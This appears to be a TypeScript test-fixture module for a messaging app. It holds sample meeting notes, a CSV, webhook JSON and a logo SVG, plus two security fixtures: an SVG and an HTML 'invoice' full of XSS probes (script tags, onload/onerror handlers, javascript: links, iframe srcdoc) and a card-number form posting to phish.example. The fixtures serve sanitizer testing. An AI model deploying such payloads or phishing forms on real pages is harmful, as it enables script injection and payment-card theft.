/** The small text samples: notes, CSV, JSON, and the SVG and HTML security fixtures. */

// ---------------------------------------------------------------------------------------------
// Text formats

export const MEETING_NOTES = `Weekly product sync — Inbox 2.0
Date: Thursday 1 October 2026, 10:00–10:45 (CEST)
Attendees: Priya Raman, Marcus Chen, Lena Vogel, Tomás Ortega, Dana Whitfield

1. Launch status
   - Release candidate rc.3 is on staging; no open P0/P1 bugs.
   - p95 latency of list-messages: 410 ms → 120 ms after the new index.
   - Load test at 2× peak traffic passed (error rate 0.02 %).

2. Attachments & gallery
   - Image grid now lazy-loads thumbnails; PDFs open in the built-in viewer.
   - Long file names are truncated too early on mobile (INB-482, owner: Tomás).
   - SVG uploads are shown as downloads only — never rendered inline.

3. Rollout
   - 5 % of workspaces on Mon 12 Oct, 50 % on Wed, 100 % on Wed 14 Oct.
   - Support macros and the status-page banner still to do (owner: Dana).

Action items
  [ ] Priya  — final copy for the launch email, by Friday noon
  [ ] Marcus — dashboards + alerts for the rollout, by Monday
  [ ] Lena   — export the store screenshots at 2×
  [x] Tomás  — fix attachment chip truncation (merged, needs QA)

Next sync: Thursday 8 October 2026 — “go / no-go” for the 5 % rollout 🚀
`;

export const LAUNCH_PLAN_CSV = [
  'task_id,task,owner,team,start_date,due_date,status,estimate_days,notes',
  'INB-401,Finalise launch email copy,Priya Raman,Marketing,2026-09-28,2026-10-02,in_progress,3,"Legal review on Thursday, then schedule"',
  'INB-412,Pricing page update,Dana Whitfield,Web,2026-09-21,2026-09-30,done,4,',
  'INB-425,Load test at 2x peak traffic,Marcus Chen,Backend,2026-09-22,2026-09-29,done,5,"p95 120 ms, error rate 0.02%"',
  'INB-433,Status page banner,Dana Whitfield,Support,2026-10-05,2026-10-09,todo,1,',
  'INB-440,Support macros for Inbox 2.0,Dana Whitfield,Support,2026-10-01,2026-10-09,todo,2,"Cover ""where did my folders go?"" question"',
  'INB-447,Store screenshots at 2x,Lena Vogel,Design,2026-09-30,2026-10-06,in_progress,2,"iOS, Android and web"',
  'INB-458,Rollout dashboards and alerts,Marcus Chen,Backend,2026-10-02,2026-10-09,in_progress,3,',
  'INB-466,Gallery lazy-loading,Lena Vogel,Frontend,2026-09-14,2026-09-25,done,6,',
  'INB-482,Attachment chip truncates long names on mobile,Tomás Ortega,Frontend,2026-10-01,2026-10-07,in_review,1,"Needs QA on iPhone SE, Pixel 7"',
  'INB-490,Announce in #general,Priya Raman,Marketing,2026-10-14,2026-10-14,todo,0.5,"After 100% rollout, with the launch video"',
  '',
].join('\r\n');

export const WEBHOOK_PAYLOAD = {
  id: 'evt_01J9Z6Q4M8T3K2R7V5W0XCY1BD',
  type: 'message.created',
  created_at: '2026-10-03T09:31:27.418Z',
  api_version: '2026-07-01',
  workspace: { id: 'ws_acme', name: 'Acme Inc.' },
  data: {
    message: {
      id: 'msg_7f3c2a91',
      conversation_id: 'conv_product_launch',
      author: { id: 'usr_priya', name: 'Priya Raman', email: 'priya.raman@acme.example' },
      content: [{ type: 'text', text: 'Here is the Q3 roadmap, comments welcome by Friday 🙏' }],
      attachments: [
        {
          id: 'att_5d81e0',
          file_name: 'q3-roadmap.pdf',
          content_type: 'application/pdf',
          size: 7704,
          url: 'https://files.acme.example/att_5d81e0/q3-roadmap.pdf',
        },
      ],
      mentions: ['usr_marcus', 'usr_lena'],
      thread: null,
      edited: false,
      created_at: '2026-10-03T09:31:27.102Z',
    },
  },
  delivery: {
    attempt: 1,
    max_attempts: 8,
    signature: 'v1=2b5f0c1e9a7d4f3b8c6e1a0d9f2b7c4e5a8d3f6b1c0e9a2d7f4b3c8e5a1d6f0b',
  },
};

export const ACME_LOGO_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="480" height="160" viewBox="0 0 480 160" role="img" aria-labelledby="title">
  <title id="title">Acme Inc. logo</title>
  <defs>
    <linearGradient id="mark" x1="0" y1="0" x2="1" y2="1">
      <stop offset="0" stop-color="#818cf8"/>
      <stop offset="1" stop-color="#4338ca"/>
    </linearGradient>
  </defs>
  <rect width="480" height="160" rx="24" fill="#ffffff"/>
  <g transform="translate(40 28)">
    <rect width="104" height="104" rx="26" fill="url(#mark)"/>
    <path d="M24 78 L52 22 L80 78 Z" fill="none" stroke="#ffffff" stroke-width="10" stroke-linejoin="round"/>
    <circle cx="52" cy="62" r="8" fill="#fbbf24"/>
  </g>
  <text x="172" y="96" font-family="Helvetica, Arial, sans-serif" font-size="56" font-weight="700" fill="#1e1b4b">acme</text>
  <text x="176" y="124" font-family="Helvetica, Arial, sans-serif" font-size="16" letter-spacing="4" fill="#6b7280">MESSAGING</text>
</svg>
`;

/** Security fixture: script element, onload handler and a javascript: link. Must never execute. */
export const XSS_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="320" height="200" viewBox="0 0 320 200" onload="alert(document.domain)">
  <script>alert(1)</script>
  <rect width="320" height="200" rx="16" fill="#fef2f2" stroke="#dc2626" stroke-width="4"/>
  <a xlink:href="javascript:alert('svg-link')" href="javascript:alert('svg-link')">
    <text x="160" y="92" text-anchor="middle" font-family="sans-serif" font-size="28" font-weight="700" fill="#b91c1c">XSS test</text>
  </a>
  <text x="160" y="132" text-anchor="middle" font-family="sans-serif" font-size="14" fill="#7f1d1d">If an alert appeared, this SVG was rendered unsafely.</text>
</svg>
`;

/** Security fixture: inline script, event-handler attributes and a javascript: URL. */
export const XSS_HTML = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Invoice #4821 - Acme Inc.</title>
<script>alert('xss')</script>
</head>
<body onload="alert('body-onload')">
<h1>Invoice #4821</h1>
<p>Amount due: <strong>$12,480.00</strong> by 31 October 2026.</p>
<img src="x" alt="logo" onerror="alert('img-onerror')">
<p><a href="javascript:alert('link')">View payment details</a></p>
<iframe srcdoc="&lt;script&gt;alert('iframe')&lt;/script&gt;"></iframe>
<form action="https://phish.example/collect" method="post">
  <label>Card number <input name="card" autocomplete="cc-number"></label>
  <button type="submit">Pay now</button>
</form>
<p style="color:#999">If an alert appeared, this HTML was rendered unsafely.</p>
</body>
</html>
`;
